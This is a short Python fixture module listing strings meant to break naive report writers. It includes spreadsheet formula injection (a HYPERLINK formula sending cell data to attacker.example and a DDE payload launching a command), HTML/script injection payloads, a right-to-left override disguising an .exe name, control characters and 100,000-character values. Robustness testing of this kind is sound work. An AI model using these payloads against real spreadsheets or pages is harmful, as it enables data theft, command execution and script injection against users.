"""Strings that break naive report writers, injected with ``--hostile``."""

from __future__ import annotations

# Formula text (spreadsheet injection), markup (HTML injection), control characters that
# Excel rejects, right-to-left text, emoji and one 100,000-character value.
HOSTILE_NAMES = (
    '=HYPERLINK("https://attacker.example/?d="&B2,"x")',
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "Acme\x0bCorp",
    "Bell\x07Tenant",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "\u202eevil.exe\u202c Tenant",
    "شركة الأمن \u200f Tenant",
    "Rocket 🚀 Ventures 🛡️",
    "javascript:alert(1)",
    "L" * 100_000,
)

# Shorter variants for free-text data fields (titles, user names, site names).
HOSTILE_TEXT = HOSTILE_NAMES[:-1] + ("D" * 100_000,)
